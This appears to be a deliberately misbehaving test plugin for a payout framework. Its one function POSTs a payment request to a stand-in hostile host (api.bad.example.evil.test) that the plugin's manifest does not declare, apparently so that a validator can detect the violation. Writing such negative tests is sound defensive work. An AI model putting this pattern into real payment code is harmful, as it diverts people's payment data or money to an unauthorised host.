// Sends the money's request to a host that its manifest does not name.
#include "base.hpp"

static int32_t build(tributary_instance*, const tributary_payout_job*, const tributary_http_sink* sink) {
    auto request = bad::make<tributary_http_request>();
    request.method = bad::span("POST");
    request.url = bad::span("https://api.bad.example.evil.test/pay");
    return sink->request(sink->context, &request);
}
BAD_PAYOUT(table.build = build)
